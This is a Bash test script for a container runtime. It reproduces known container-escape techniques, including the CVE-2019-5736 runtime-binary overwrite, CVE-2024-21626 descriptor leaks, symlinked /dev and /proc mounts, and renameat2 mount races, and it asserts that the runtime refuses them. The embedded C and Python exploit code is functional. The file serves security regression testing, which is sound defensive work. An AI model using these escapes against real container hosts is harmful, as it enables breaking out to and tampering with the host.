#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# oci - containers of moat-runtime that try to get at their host: the known ways out of OCI runtimes, each by its
# number. Where it can be shown here, the same is first done in the old way, so that a pass means something.
# shellcheck source-path=SCRIPTDIR
. "$(dirname "$0")/../lib/sandbox.sh"
sandbox_enter "$@"
. "$(dirname "$0")/../conformance/oci/oci.sh"
exec 2>&1
need python3 gcc strace
bundle attack '.root.readonly = false'

# ------------------------------------------------------------ CVE-2019-5736: the runtime's own file
# A copy of it: the real one is not to be put at risk. overwrite waits for a process that has the runtime as its
# program, opens that, and writes to it as soon as it can.
cp "$RUNTIME" /run/runtime
cat >/run/overwrite.c <<'C'
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	char path[64], link[256];
	int got = -1, tries = argc > 1 ? atoi(argv[1]) : 4000;
	(void)argc;
	for (int i = 0; i < tries && got < 0; i++) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (got < 0 && (entry = readdir(proc))) {
			if (atoi(entry->d_name) <= 0 || atoi(entry->d_name) == getpid()) continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			ssize_t n = readlink(path, link, sizeof(link) - 1);
			if (n < 0) continue;
			link[n] = 0;
			if (strstr(link, "busybox") || strstr(link, "overwrite")) continue;
			got = open(path, O_RDONLY);
		}
		closedir(proc);
		usleep(500);
	}
	if (got < 0) { puts("nothing to open"); return 1; }
	snprintf(path, sizeof(path), "/proc/self/fd/%d", got);
	for (int i = 0; i < 4000; i++) {
		int fd = open(path, O_WRONLY);
		if (fd >= 0) { puts(write(fd, "#!/owned\n", 9) == 9 ? "written" : "opened"); return 0; }
		if (errno != ETXTBSY) { printf("%s\n", strerror(errno)); return 2; }
		usleep(500);
	}
	puts("busy");
	return 3;
}
C
gcc -static -O1 -o rootfs/bin/overwrite /run/overwrite.c || skip "gcc cannot link statically"
# In the old way: the runtime's file itself is what the container executes.
config '.mounts += [{"destination": "/victim", "source": "/run/runtime", "options": ["bind"]}]'
cp "$RUNTIME" /run/runtime
assert_match "a program that is executed and then let go can be overwritten through /proc/PID/exe" written \
	"$(sh_inside '/bin/overwrite & sleep 0.3; (exec /victim --root /nosuch list & sleep 0.2; exec true) >/dev/null 2>&1; (for i in 1 2 3 4 5 6 7 8; do for j in 1 2 3 4 5 6; do /victim features >/dev/null; done; done); wait')"
config 'del(.mounts[-1])'
hash=$(sha256sum <"$RUNTIME")
rm -f rootfs/bin/self
printf '#!/proc/self/exe\n' >rootfs/bin/self
chmod +x rootfs/bin/self
args sh -c '/bin/overwrite 2000; sleep 1'
bg run -d a
for program in /proc/self/exe /bin/self; do
	for _ in 1 2 3 4 5; do
		timeout 5 "$RUNTIME" --root "$OCI_ROOT" exec a "$program" features >/dev/null 2>&1 </dev/null
	done
done
eventually 5 test -s /run/bg.out
assert_eq "that of the runtime cannot: exec of /proc/self/exe and of a script of it" "$hash" "$(sha256sum <"$RUNTIME")"
assert_match "it was opened, on a mount that is read-only" "Read-only file system" "$(</run/bg.out)"
rt delete -f a
args /proc/self/exe features
rt run a >/dev/null 2>&1
assert_eq "nor as the container's own program" "$hash" "$(sha256sum <"$RUNTIME")"
# The runtime changes what its program file is; where the kernel refuses, it starts anew from there.
args readlink -v /proc/1/exe
execs() { # INJECTION... - how often a runtime starts anew, whose container runs
	rm -f /run/execs
	strace -qq -o /run/execs -e trace=execveat,prctl "$@" "$RUNTIME" --root "$OCI_ROOT" run a >/dev/null 2>/run/execs.err </dev/null &&
		grep -c ^execveat /run/execs
}
if readelf -h "$RUNTIME" | grep -q 'Type:.*DYN' && ! readelf -l "$RUNTIME" | grep -q INTERP; then
	assert_eq "it does so without starting anew" 0 "$(execs | tail -n 1)"
fi
assert_eq "refused by the kernel, it starts anew" 1 "$(execs -e inject=prctl:error=EPERM:when=1 | tail -n 1)"
assert_eq "and cannot be overwritten then, either" "$hash" "$(sha256sum <"$RUNTIME")"

# ------------------------------------------------------------ CVE-2024-21626: a descriptor as working directory
exec 7</etc 8</
assert_eq "a leaked descriptor is a way to the host's files" ok "$(cd /proc/self/fd/8/ && test -e run/b && echo ok)"
for fd in 3 4 5 6 7 8 9 10 11 12 13 14 15; do
	config ".process.cwd = \"/proc/self/fd/$fd\""
	args cat ../../etc/hostname hostname passwd shadow
	out=$(rt run cwd 2>&1 </dev/null)
	[[ $out != *root:* && $out == "moat-runtime: /proc/self/fd/$fd: "* ]] || fail "cwd /proc/self/fd/$fd" "$out"
done
pass "process.cwd of /proc/self/fd/3 to 15 is refused"
config '.process.cwd = "/"'
args sleep 1000
bg run -d a
for fd in 3 4 5 6 7 8 9 10 11 12; do
	assert_fail "exec --cwd /proc/self/fd/$fd" rt exec --cwd "/proc/self/fd/$fd" a cat passwd
done
assert_eq "none of our descriptors is inside" "0 1 2 3" "$(rt exec a ls /proc/self/fd | tr '\n' ' ' | sed 's/ $//')"
exec 7<&- 8<&-
rt delete -f a

# ------------------------------------------------------------ the root file system leads elsewhere
mkdir -p /run/host/{dev,proc,sys,etc}
echo host >/run/host/etc/file
look() { find /run/host -printf '%p %y %l\n' | sort | md5sum; }
before=$(look)
evil() { # NAME TARGET - the container's NAME is a link to the host's TARGET
	rm -rf "rootfs/$1"
	ln -s "$2" "rootfs/$1"
}
mend() {
	rm -rf "rootfs/$1"
	mkdir -p "rootfs/$1"
}
# By path, as it was done: the links are followed.
for name in dev proc sys; do
	evil $name ../../../host/$name
	mount -t tmpfs by-path rootfs/$name
	assert_ok "a mount by path of /$name lands where its link leads" mountpoint -q /run/host/$name
	umount /run/host/$name
	mend $name
done
evil dev ../../../host/dev
mknod rootfs/dev/by-path c 1 3
assert_ok "a device node, too" test -c /run/host/dev/by-path
rm /run/host/dev/by-path
mend dev
ln -s /run/host/etc/file rootfs/dev/null
touch rootfs/tmp/masked
mount --bind rootfs/dev/null rootfs/tmp/masked
assert_eq "what is bound as a mask by path is what the link leads to" host "$(cat rootfs/tmp/masked)"
umount rootfs/tmp/masked
rm rootfs/tmp/masked
assert_eq "the host's folder is as it was" "$before" "$(look)"
mend dev
args true
for link in /run/host/dev ../../../../../../run/host/dev; do
	evil dev "$link"
	rt run a >/dev/null 2>&1 </dev/null
	assert_eq "/dev is a link to $link: nothing is made there (CVE-2026-41579)" "$before" "$(look)"
	config '.mounts = [.mounts[] | select(.destination | startswith("/dev") | not)]'
	args true
	rt run a >/dev/null 2>&1 </dev/null
	assert_eq "nor without mounts in /dev" "$before" "$(look)"
	rm -f config.json
	"$RUNTIME" spec
	config '.process.terminal = false | .root.readonly = false'
done
mend dev
# /dev/pts of the image, where nothing covers /dev
mkdir /run/host/pts
before=$(look)
ln -s ../../../../host/pts rootfs/dev/pts
mount -t devpts by-path rootfs/dev/pts
assert_ok "a mount by path of /dev/pts lands where its link leads" mountpoint -q /run/host/pts
umount /run/host/pts
config '.mounts = [.mounts[] | select(.destination != "/dev")]'
args true
for link in /run/host/pts ../../../../host/pts; do
	rm -rf rootfs/dev/pts
	ln -s $link rootfs/dev/pts
	rt run a >/run/mounted 2>&1 </dev/null
	assert_eq "/dev/pts is a link to $link: nothing is made there" "$before" "$(look)"
	assert_fail "nor mounted" mountpoint -q /run/host/pts
done
rm -f config.json
"$RUNTIME" spec
config '.process.terminal = false | .root.readonly = false'
mend dev
for name in proc sys; do
	evil $name /run/host/$name
	args true
	assert_fail "/$name is a link: refused (CVE-2019-19921)" rt run a
	assert_eq "and nothing is mounted elsewhere" "$before" "$(look)"
	mend $name
done
# Masks are of the host's /dev/null, not of what the image calls so (CVE-2025-31133)
config '.mounts = [.mounts[] | select(.destination != "/dev")] | .mounts = [.mounts[] | select(.destination | startswith("/dev/") | not)]'
rm -rf rootfs/dev
mkdir rootfs/dev
ln -s /proc/sysrq-trigger rootfs/dev/null
assert_fail "/dev/null of the image is a link: refused" rt run a
rm rootfs/dev/null
echo content >rootfs/dev/null
assert_fail "or a file: refused" rt run a
rm -rf rootfs/dev
mkdir rootfs/dev
"$RUNTIME" spec --bundle /run
cp /run/config.json .
config '.process.terminal = false | .root.readonly = false'
assert_eq "what is masked is the host's null device" "1:3" "$(inside stat -c %t:%T /proc/keys)"
# Whose owner has the container's id: what it could do to it, it would do to the host's
spoil="chmod 600 \$1; chown 7 \$1; touch -d 2001-01-01 \$1"
owner() { stat -c '%a %u:%g %Y' /dev/null; }
cp config.json config.kept
kept=$(owner)
config '.process.capabilities |= map_values(["CAP_CHOWN", "CAP_FOWNER"])
	| .mounts += [{"destination": "/null", "source": "/dev/null", "options": ["bind"]}]
	| .linux.maskedPaths += ["/etc/shadow", "/proc/cmdline", "/opt"]'
mkdir -p rootfs/opt
: >rootfs/etc/shadow
sh_inside "set -- /null; $spoil" >/dev/null
assert_match "where it is only bound it is given another mode, owner and time" "^600 7:0 978" "$(owner)"
chown 0:0 /dev/null
chmod 666 /dev/null
touch -d "@${kept##* }" /dev/null
for mask in /proc/keys /proc/cmdline /etc/shadow; do
	assert_match "not by $mask" "Read-only file system" "$(sh_inside "set -- $mask; $spoil; echo x >>$mask; cat $mask")"
	assert_eq "and it stays as it was" "$kept" "$(owner)"
	assert_eq "and can be written to: $mask" ":0" "$(inside sh -c "echo x >$mask; echo \"\$(cat $mask):\$?\"")"
done
mv config.kept config.json
rm -r rootfs/opt rootfs/etc/shadow
# A terminal: /dev/console of the image (CVE-2025-52565)
cat >/run/console.py <<'P'
import socket, sys, time
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(1); open(sys.argv[1] + ".ready", "w").close()
s.settimeout(10); c, _ = s.accept(); time.sleep(1)
P
rm -f /run/s /run/s.ready
python3 /run/console.py /run/s &
eventually 5 test -e /run/s.ready
mkdir -p rootfs/dev
ln -s /run/host/etc/file rootfs/dev/console
config '.process.terminal = true | .mounts = [.mounts[] | select(.destination != "/dev")]'
args true
assert_fail "/dev/console is a link: refused" bg create --console-socket /run/s a
assert_match "by name" "/dev/console" "$output"
assert_eq "and nothing is mounted there" "${before}host" "$(look)$(cat /run/host/etc/file)"
wait
mend dev
rm -f config.json
"$RUNTIME" spec
config '.process.terminal = false | .root.readonly = false'

# ------------------------------------------------------------ places exchanged in a loop (CVE-2021-30465)
cat >/run/exchange.py <<'P'
import ctypes, os, time
libc = ctypes.CDLL(None)
os.chdir("/run/b/attack/rootfs")
end = time.time() + 8
while time.time() < end and not os.path.exists("/run/stop"):
    libc.renameat2(-100, b"place", -100, b"link", 2)
P
mkdir -p rootfs/place /run/src
ln -sfn /run/host/etc rootfs/link
touch /run/src/mark
# By path: made, looked at, mounted, each by the same name, until one of them is the host's.
cat >/run/by-path.py <<'P'
import ctypes, os, subprocess, threading, time
libc = ctypes.CDLL(None, use_errno=True)
os.chdir("/run/b/attack/rootfs")
done = threading.Event()
def exchange():
    while not done.is_set(): libc.renameat2(-100, b"place", -100, b"link", 2)
racer = threading.Thread(target=exchange); racer.start()
end = time.time() + 60
while time.time() < end and not os.path.exists("/run/host/etc/deep/mark"):
    try: os.makedirs("place/deep", exist_ok=True)
    except OSError: continue
    if libc.mount(b"/run/src", b"place/deep", None, 4096, None) == 0 and not os.path.exists("/run/host/etc/deep/mark"):
        for name in (b"place/deep", b"link/deep"): libc.umount2(name, 2)
done.set(); racer.join()
print("landed" if os.path.exists("/run/host/etc/deep/mark") else "never")
while libc.umount2(b"/run/host/etc/deep", 2) == 0: pass
os.path.isdir("/run/host/etc/deep") and os.rmdir("/run/host/etc/deep")
if os.path.islink("place"): libc.renameat2(-100, b"place", -100, b"link", 2)
while libc.umount2(b"place/deep", 2) == 0: pass
P
assert_eq "by path a mount lands where the link leads" landed "$(python3 /run/by-path.py)"
assert_eq "nothing of that is left" "$before" "$(look)"
config '.mounts += [{"destination": "/place/deep", "source": "/run/src", "options": ["bind"]}]'
python3 /run/exchange.py &
args true
for _ in 1 2 3 4 5 6 7 8 9 10; do
	rt run a >/dev/null 2>&1 </dev/null
done
touch /run/stop
wait
assert_eq "a destination exchanged for a link all the time: nothing of the host's is touched" "$before" "$(look)"
config 'del(.mounts[-1])'
rm -rf rootfs/place rootfs/link

# ------------------------------------------------------------ what is read
python3 -c 'print("{\"a\":" * 20000 + "1" + "}" * 20000)' >deep.json
# By whom takes what comes: a call for each level, in a stack that is none too large.
assert_status 139 "who goes down as deep as they lead dies of it" bash -c 'ulimit -s 512; python3 -c "
import json, sys
sys.setrecursionlimit(10**7)
json.load(open(\"deep.json\"))"; exit $?'
assert_fail "JSON of 20,000 levels" rt create --config deep.json a
assert_match "is refused for that" "more than .* levels" "$output"
head -c 6000000 /dev/zero | tr '\0' ' ' >big.json
assert_fail "a configuration of 6 MB" rt create --config big.json a
mkfifo /run/fifo
assert_status 124 "who opens a FIFO waits" timeout 1 cat /run/fifo
assert_status 124 "who reads a device to its end reads on" timeout 1 sh -c 'cat /dev/zero >/dev/null'
assert_fail "a FIFO" rt create --config /run/fifo a
assert_fail "a device" rt create --config /dev/zero a
assert_ok "nothing is left of any" test -z "$(ls "$OCI_ROOT")"
finish
